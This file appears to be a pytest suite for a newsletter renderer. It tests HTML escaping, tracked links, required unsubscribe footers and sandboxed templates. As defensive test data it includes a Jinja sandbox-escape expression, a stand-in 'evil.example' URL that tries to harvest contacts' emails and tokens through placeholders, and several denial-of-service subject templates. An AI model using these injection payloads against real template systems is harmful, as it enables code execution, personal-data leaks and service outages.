"""Compiling a role set's message: sandboxed templates, placeholders, and the footer rule."""

from __future__ import annotations

import dataclasses
import re
import shutil
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from commhub.errors import TemplateError
from commhub.render.content_plan import AudienceInfo, PickedItem, Section
from commhub.render.placeholders import ContactValues, html_placeholder, raw_placeholder
from commhub.render.renderer import (
    EditionFacts,
    PreviewLinks,
    Renderer,
    Sender,
    TrackedLinks,
    subject_problem,
)
from commhub.resources import templates_dir
from commhub.store.models import ContentKind

SENDER = Sender("Northwind", "1 Harbour Street, Bristol <BS1>")
FACTS = EditionFacts(
    "Partner News", "news", "{{ series.name }} for {{ contact.first_name }}",
    datetime(2026, 3, 29, 0, 30, tzinfo=UTC), "Europe/Berlin", 5,
)  # fmt: skip
ITEM = PickedItem(
    id=11, slug="q1", title='Q1 "Boost" <pricing> & more', summary="Save 15%.",
    kind=ContentKind.VIDEO, url="https://video.example/42", image="https://cdn.example/42.jpg",
    duration_seconds=845, speaker="Ada", key_message="Register before March.",
    body_html="", publish_at=None,
)  # fmt: skip
SECTIONS = [Section(AudienceInfo("sales", "Sales", "Sellers"), (ITEM,))]
BASE = "https://hub.example"


def compile_with(renderer: Renderer, sender: Sender = SENDER, template: str = "newsletter"):  # type: ignore[no-untyped-def]
    return renderer.compile(
        template, FACTS, SECTIONS, sender, {11: 3},
        TrackedLinks(BASE, html_placeholder("token")), TrackedLinks(BASE, raw_placeholder("token")),
    )  # fmt: skip


def copy_templates(tmp_path: Path) -> Path:
    shutil.copytree(templates_dir(), tmp_path / "templates")
    return tmp_path / "templates"


def test_the_shipped_newsletter_compiles_with_tracked_links_and_escaped_text() -> None:
    compiled = compile_with(Renderer(templates_dir()))
    html = compiled.html.source()
    assert f"{BASE}/t/c/%%token%%/3" in html
    assert f"{BASE}/t/v/%%token%%/3/yes" in html
    assert f"{BASE}/t/v/%%token%%/3/no" in html
    assert f"{BASE}/u/%%token%%" in html
    assert f"{BASE}/t/o/%%token%%.gif" in html
    # Escaped as HTML needs: markup in text, quotes too in attributes.
    assert 'Q1 "Boost" &lt;pricing&gt; &amp; more</a>' in html
    assert 'alt="Q1 &quot;Boost&quot;' in html
    assert "<pricing>" not in html.replace('alt="Q1 &quot;Boost&quot; <pricing>', "")
    assert "1 Harbour Street, Bristol &lt;BS1&gt;" in html
    assert "14:05" in html
    assert "Register before March." in html
    text = compiled.text.source()
    assert 'Q1 "Boost" <pricing> & more' in text
    assert f"{BASE}/u/%%token.raw%%" in text
    assert "%%first_name%%" not in text, "the text part uses raw placeholders only"
    # The edition is dated in the series' zone: 00:30 UTC is already 29 March in Berlin.
    assert "29 March 2026" in text
    values = ContactValues('Ana <"&>', "", "a@p.example", "P", "TOK")
    assert compiled.subject.fill(values.tags()) == 'Partner News for Ana <"&>'


def test_previews_link_straight_to_the_items_and_track_nothing() -> None:
    links = PreviewLinks(BASE)
    compiled = Renderer(templates_dir()).compile(
        "newsletter", FACTS, SECTIONS, SENDER, {11: 3}, links, links
    )
    html = compiled.html.source()
    assert 'href="https://video.example/42"' in html
    assert "/t/c/" not in html
    assert "/t/o/" not in html
    assert f"{BASE}/u/preview" in html


def test_a_postal_address_with_quotes_and_ampersands_is_found() -> None:
    sender = Sender("Northwind", "St Mary's \"Quay\" & Co, 1 King's Road, Bristol")
    compiled = compile_with(Renderer(templates_dir()), sender)
    assert "St Mary" in compiled.html.source()


def test_no_postal_address_refuses_to_compile() -> None:
    with pytest.raises(TemplateError, match="COMMHUB_POSTAL_ADDRESS: not set"):
        compile_with(Renderer(templates_dir()), Sender("Northwind", ""))


def test_a_footer_without_the_unsubscribe_link_refuses_to_compile(tmp_path: Path) -> None:
    root = copy_templates(tmp_path)
    text = root / "newsletter" / "email.txt"
    text.write_text(text.read_text().replace("{{ links.unsubscribe }}", "(write to us)"))
    with pytest.raises(TemplateError) as caught:
        compile_with(Renderer(root))
    assert str(caught.value) == f"{text}: the footer has no unsubscribe link"


def test_a_template_error_names_the_file_and_line(tmp_path: Path) -> None:
    root = copy_templates(tmp_path)
    mjml = root / "newsletter" / "email.mjml"
    lines = mjml.read_text().splitlines()
    lines[20] += " {% if %}"
    mjml.write_text("\n".join(lines))
    with pytest.raises(TemplateError, match=f"{mjml}:21: "):
        compile_with(Renderer(root))


def test_templates_run_sandboxed(tmp_path: Path) -> None:
    root = copy_templates(tmp_path)
    text = root / "newsletter" / "email.txt"
    text.write_text("{{ org.__class__.__mro__[1].__subclasses__() }}" + text.read_text())
    with pytest.raises(TemplateError, match=r"unsafe|access to attribute"):
        compile_with(Renderer(root))


def test_an_undefined_name_is_an_error_not_an_empty_string(tmp_path: Path) -> None:
    root = copy_templates(tmp_path)
    text = root / "newsletter" / "email.txt"
    text.write_text("{{ contact.nickname }}" + text.read_text())
    with pytest.raises(TemplateError, match="nickname"):
        compile_with(Renderer(root))


def test_compacting_keeps_preformatted_text_and_drops_indentation() -> None:
    from commhub.render.renderer import compact_html

    html = "<div>\n    <p>a</p>\n\n  <pre>  x\n    y\n</pre>\n   <b>z</b>\n</div>"
    assert compact_html(html) == "<div>\n<p>a</p>\n<pre>  x\n    y\n</pre>\n<b>z</b>\n</div>"


@pytest.mark.parametrize(
    "field",
    ["title", "summary", "speaker", "key_message", "body_html", "image", "audience"],
)
def test_a_contacts_values_never_fill_a_tag_that_came_with_the_content(field: str) -> None:
    hostile = "https://evil.example/c?e=%%email%%&t=%%token.raw%%&n=%%first_name%%"
    values = {
        "body_html": f'<p><a href="{hostile}">win</a> <img src="{hostile}"></p>',
    }.get(field, hostile)
    changes: dict[str, str | None] = {} if field == "audience" else {field: values}
    if field == "body_html":  # shown only for an item without a page of its own
        changes |= {"url": None}
    item = dataclasses.replace(ITEM, **changes)
    audience = (
        AudienceInfo("sales", hostile, hostile) if field == "audience" else SECTIONS[0].audience
    )
    compiled = Renderer(templates_dir()).compile(
        "newsletter", FACTS, [Section(audience, (item,))], SENDER, {11: 3},
        TrackedLinks(BASE, html_placeholder("token")), TrackedLinks(BASE, raw_placeholder("token")),
    )  # fmt: skip
    contact = ContactValues("Ana", "Lima", "ana@partner.example", "Acme", "SECRET-TOKEN")
    found = [
        url
        for part in (compiled.html, compiled.text, compiled.subject)
        for url in re.findall(r"evil\.example/c\?[^\s\"'<>]*", part.fill(contact.tags()))
    ]
    assert found  # the hostile URL is in the message, as the content wrote it ...
    for url in found:  # ... and no contact's value was put into it
        assert not {"ana", "SECRET-TOKEN", "Ana"} & set(re.split(r"[=&%;]", url)), url
    # The template's own tags are still filled: the unsubscribe link carries the token.
    assert f"{BASE}/u/SECRET-TOKEN" in compiled.html.fill(contact.tags())


@pytest.mark.parametrize(
    "subject",
    [
        "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
        "{{ range(10**9)|list }}",
        '{{ "x" * 1000000000 }}',
        "{{ 10 ** 10 ** 10 }}",
        '{{ ("x" * 10)|replace("x", "xxxxxxxxxx")|replace("x", "xxxxxxxxxx") }}',
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{{ lipsum(10000) }}",
        "{{ series.name|center(1000000000) }}",
        "{% set x = 1 %}{{ x }}",
        "{{ series.name }}" * 100,
    ],
)
def test_a_subject_that_could_run_away_is_refused_before_it_runs(subject: str) -> None:
    started = time.monotonic()
    problem = subject_problem(subject, "News")
    assert problem is not None
    assert time.monotonic() - started < 1
    facts = dataclasses.replace(FACTS, subject_template=subject)
    html_links = TrackedLinks(BASE, html_placeholder("token"))
    text_links = TrackedLinks(BASE, raw_placeholder("token"))
    with pytest.raises(TemplateError, match="subject"):
        Renderer(templates_dir()).compile(
            "newsletter", facts, SECTIONS, SENDER, {11: 3}, html_links, text_links
        )


@pytest.mark.parametrize(
    "subject",
    [
        "{{ series.name }}, {{ edition.date_label }}",
        "{% if contact.first_name %}{{ contact.first_name }}, {% endif %}{{ series.name }}",
        '{{ role_names|join(" & ") }}: {{ series.name|upper }}',
        '{{ contact.first_name|default("Hello") }} · {{ org.name|truncate(20) }}',
    ],
)
def test_a_subject_of_names_filters_and_conditions_is_fine(subject: str) -> None:
    assert subject_problem(subject, "News") is None
